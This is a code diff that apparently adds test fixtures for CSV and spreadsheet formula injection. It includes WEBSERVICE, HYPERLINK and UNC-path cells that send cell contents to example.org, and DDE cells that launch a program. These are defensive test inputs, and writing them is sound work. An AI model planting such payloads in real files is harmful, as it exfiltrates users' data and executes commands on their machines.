@@ -403,6 +403,21 @@ def films_and_sounds() -> Files:
     yield "notes alone.mp3", b"ID3\x03\0\0\0\0\0\x0a" + bytes(10)
 
 
+FORMULAS = (
+    '=WEBSERVICE("http://example.org/?"&A1)',
+    '+HYPERLINK("http://example.org/?"&A1,"Open")',
+    '-5+WEBSERVICE("http://example.org/?"&A1)',
+    "-5+'\\\\example.org\\[a.xlsx]b'!A1",
+    "@SUM(1+1)",
+    "-Ann",
+    "+A1",
+    "\t=A1",
+    "\r\n =A1",
+    "\uff1dA1",
+)
+"""Cells that a spreadsheet works out as it opens a table."""
+
+
 def words() -> Files:
     """Words that are none."""
     yield "noughts.txt", b"words\0words"
@@ -410,6 +425,14 @@ def words() -> Files:
     yield "controls.txt", b"words \x1b[2J words"
     yield "calls a program.csv", b"a,b\r\n1,=cmd|'/c calc'!A1\r\n"
     yield "calls it otherwise.csv", b"a,b\r\n1,\"@SUM(1+1)*cmd|'/c calc'!A1\"\r\n"
+    for number, cell in enumerate(FORMULAS):
+        yield (
+            f"formula {number}.csv",
+            f'a,b\r\n1,"{cell.replace(chr(34), chr(34) * 2)}"\r\n'.encode(),
+        )
+    yield "parted otherwise.csv", b'a;b\r\nEwa;=WEBSERVICE("http://example.org/?"&A1)\r\n'
+    yield "parted by tabs.csv", b'a\tb\r\nEwa\t=HYPERLINK("http://example.org/?"&A1)\r\n'
+    yield "parted as it says.csv", b"sep=~\r\na~b\r\nEwa~=A1\r\n"
     yield "drawing.txt", b"\n  " + DRAWING
     yield "markup.txt", b'<?xml version="1.0"?><a/>'
 
